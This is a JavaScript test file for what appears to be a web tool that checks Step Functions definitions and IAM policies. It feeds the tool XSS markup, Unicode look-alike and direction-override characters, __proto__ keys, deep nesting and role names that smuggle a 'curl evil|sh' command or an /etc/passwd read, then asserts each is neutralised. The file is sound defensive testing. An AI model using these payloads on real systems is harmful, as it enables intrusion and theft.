/** Names that want to be markup, code or something that they are not. */

import assert from "node:assert/strict";

import { Checker, EMPTY_POLICY, definition, passing, withClipboard } from "./harness/checker.mjs";
import { test } from "./harness/test.mjs";

const MARKUP = `<img src=x onerror="globalThis.ran = true; alert(1)">`;

async function openWithoutDialogs(open) {
  const checker = new Checker(await open({ context: withClipboard }));
  checker.dialogs = 0;
  checker.page.on("dialog", (dialog) => {
    checker.dialogs += 1;
    return dialog.dismiss();
  });
  return checker;
}

/** Nothing of a pasted text has become an element or ran. */
async function isUntouched(checker) {
  assert.equal(checker.dialogs, 0);
  assert.equal(await checker.frame.evaluate(() => globalThis.ran), undefined);
  assert.equal(await checker.frame.locator("img, iframe, a:not([data-testid]), b[onclick], [onerror], #app script").count(), 0);
}

test("markup in names is shown as text", async ({ open }) => {
  const checker = await openWithoutDialogs(open);
  const role = `arn:aws:iam::111122223333:role/${MARKUP}`;
  await checker.paste("editor-machine", definition({ [MARKUP]: passing(role), "</code><script>ran=1</script>": passing(MARKUP) }));
  await checker.paste("editor-policy-0", JSON.stringify({
    Version: "2012-10-17",
    Statement: [{ Sid: MARKUP, Effect: MARKUP, Action: MARKUP, Resource: MARKUP, Principal: { AWS: MARKUP } }],
  }));
  await checker.pasteRelated(
    `User: arn:aws:iam::111122223333:role/${MARKUP} is not authorized to perform: iam:PassRole on resource: ${MARKUP}`,
  );
  await checker.state({ executionRole: MARKUP, stateMachineArn: MARKUP, account: MARKUP, region: MARKUP });
  await checker.eventually(async () => assert.ok((await checker.all("check").count()) > 0));
  assert.match(await checker.all("notice").allInnerTexts().then(String), /<img src=x onerror=/);
  assert.match(await checker.frame.locator(".checks").textContent(), /<\/code><script>ran=1<\/script>/);
  await isUntouched(checker);

  // The sentences under the underlined places are made elsewhere.
  await checker.focusEditor("editor-policy-0");
  await checker.page.keyboard.press("F8");
  await isUntouched(checker);
});

test("characters that deceive are written out", async ({ open }) => {
  const checker = await openWithoutDialogs(open);
  const names = { "pay\u202eroll": "\\u{202e}", "re\u200bport": "\\u{200b}", "rep\u043ert": "\\u{43e}" };
  const role = "arn:aws:iam::111122223333:role/\u202enimda";
  await checker.paste("editor-machine", definition(Object.fromEntries(Object.keys(names).map((name) => [name, passing(role)]))));
  await checker.paste("editor-policy-0", EMPTY_POLICY);
  await checker.eventually(async () => assert.equal(await checker.all("check").count(), 3));
  const results = await checker.frame.locator("#results").textContent();
  for (const escaped of Object.values(names)) {
    assert.ok(results.includes(escaped), escaped);
  }
  assert.doesNotMatch(results, /[\u202e\u200b\u043e]/);
  assert.match((await checker.notices()).map(({ code }) => code).join(" "), /look-alike-characters/);
  for (const statement of await checker.all("fix-statement").allTextContents()) {
    assert.doesNotMatch(statement, /nimda/);
  }
});

test("__proto__ is a name like any other", async ({ open }) => {
  const checker = await openWithoutDialogs(open);
  const role = "arn:aws:iam::111122223333:role/__proto__";
  await checker.paste("editor-machine", definition({ constructor: passing(role), ["__proto__"]: passing(role) }));
  await checker.paste("editor-policy-0", `{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:*", "Resource": "*", "Condition": {"StringEquals": {"__proto__": "x"}}}]}`);
  await checker.verdict("missing", /2 permissions/);
  assert.match(await checker.frame.locator(".checks").textContent(), /constructor[\s\S]*__proto__/);
  assert.equal((await checker.statement()).Resource, role);
  assert.equal(await checker.frame.evaluate(() => ({}).ran), undefined);
});

test("neither commands nor wildcards get into a statement", async ({ open }) => {
  const checker = await openWithoutDialogs(open);
  await checker.paste("editor-policy-0", EMPTY_POLICY);
  for (const role of [
    "x;curl evil|sh",
    "arn:aws:iam::111122223333:role/x;curl evil|sh",
    "*",
    "arn:aws:iam::111122223333:role/*",
    "arn:aws:iam::*:role/admin",
    'arn:aws:iam::111122223333:role/${file("/etc/passwd")}',
  ]) {
    await checker.paste("editor-machine", definition({ Run: passing(role) }));
    await checker.verdict("missing");
    const shown = await checker.all("check").textContent();
    assert.ok(shown.includes(role), shown);
    assert.equal(await checker.all("fix").count(), 1);
    const copied = await checker.copyStatement();
    assert.doesNotMatch(copied, /curl|passwd|\|/, role);
    assert.doesNotMatch(JSON.parse(copied).Resource, /[*?;|"$ ]/, role);
    assert.ok(await checker.all("fix-placeholders").isVisible(), "it says what to fill in");
  }
});

test("the deepest document that can be read, and one beyond, fit on the stack", async ({ open }) => {
  const checker = await openWithoutDialogs(open);
  await checker.paste("editor-machine", definition({ Run: passing("arn:aws:iam::111122223333:role/app") }));
  for (const levels of [250, 500, 600, 5_000]) {
    await checker.paste("editor-policy-0", `{"Statement": ${"[".repeat(levels)}${"]".repeat(levels)}}`);
    await checker.eventually(async () => {
      const codes = (await checker.notices()).map(({ code }) => code);
      assert.equal(codes.includes("json-too-deep"), levels > 512, `${levels}: ${codes}`);
    });
  }
  assert.equal(await checker.frame.evaluate(() => globalThis.sfnHost.wasRestarted()), false);
});
